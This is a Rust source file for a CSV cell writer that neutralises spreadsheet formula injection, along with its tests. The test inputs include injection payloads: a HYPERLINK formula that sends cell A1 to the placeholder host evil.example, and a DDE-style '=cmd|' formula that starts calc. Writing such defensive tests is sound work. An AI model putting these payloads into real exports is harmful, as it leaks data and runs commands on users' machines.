//! Cells that no spreadsheet runs.
//!
//! A spreadsheet takes a cell for a formula that begins with one of a few characters. Where it was
//! told of another separator than ours, a cell begins behind that one too, in the middle of our
//! cell. Each such beginning gets an apostrophe before it, which spreadsheets take for "this is a
//! text". All cells are quoted.

/// What a formula may begin with; the wide ones are taken for the others where those are usual.
const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// What a cell may begin behind.
const SEPARATOR: [char; 7] = [',', ';', '|', '\t', '\r', '\n', '"'];

/// Writes a text as a cell.
pub(super) fn write_cell(text: &str, line: &mut String) {
    line.push('"');
    let mut begins = true;
    for c in text.chars() {
        if begins && FORMULA.contains(&c) {
            line.push('\'');
            begins = false;
        }
        if c == '"' {
            line.push('"');
        }
        line.push(c);
        // Some spreadsheets pass over white space before they look.
        begins = SEPARATOR.contains(&c) || (begins && c.is_whitespace());
    }
    line.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(text: &str) -> String {
        let mut line = String::new();
        write_cell(text, &mut line);
        line
    }

    /// The cells of a line as a spreadsheet with this separator takes it apart: a quote within a
    /// cell that did not begin with one is a character.
    fn cells(line: &str, separator: char) -> Vec<String> {
        let (mut cells, mut cell, mut quoted, mut begins) = (vec![], String::new(), false, true);
        for c in line.chars() {
            match c {
                '"' if begins => quoted = true,
                '"' if quoted => quoted = false,
                c if !quoted && (c == separator || c == '\n' || c == '\r') => {
                    cells.push(std::mem::take(&mut cell));
                    begins = true;
                    continue;
                }
                c => cell.push(c),
            }
            begins = false;
        }
        cells.push(cell);
        cells
    }

    #[test]
    fn i35_no_cell_begins_with_what_a_spreadsheet_runs_whatever_its_separator() {
        let formula = "=HYPERLINK(\"http://evil.example?\"&A1;\"x\")";
        let texts = [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "＝1",
            formula,
            "a;=1+1",
            "a,=1+1",
            "a\t=1+1",
            "a|=1+1",
            "a\n=1+1",
            "\"=1",
            "a\";=cmd|'/c calc'!A0",
            "=\u{a0}1",
            "\u{a0}=1",
            "a; =1",
        ];
        for text in texts {
            let line = format!("{},{}", cell(text), cell("x"));
            for separator in [',', ';', '\t', '|'] {
                for found in cells(&line, separator) {
                    let first =
                        found.trim_start().trim_start_matches('"').trim_start().chars().next();
                    let runs = first.is_some_and(|c| FORMULA.contains(&c));
                    assert!(!runs, "{text:?} makes {found:?} with {separator:?}: {line}");
                }
            }
        }
    }

    #[test]
    fn a_text_that_nobody_runs_stays_as_it_is() {
        for text in ["Ada Lovell", "O'Neil-Smith", "a+b@c.example", "1=1", "ü", "", "12:30"] {
            assert_eq!(cell(text), format!("\"{text}\""));
        }
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("two\nlines"), "\"two\nlines\"");
    }
}
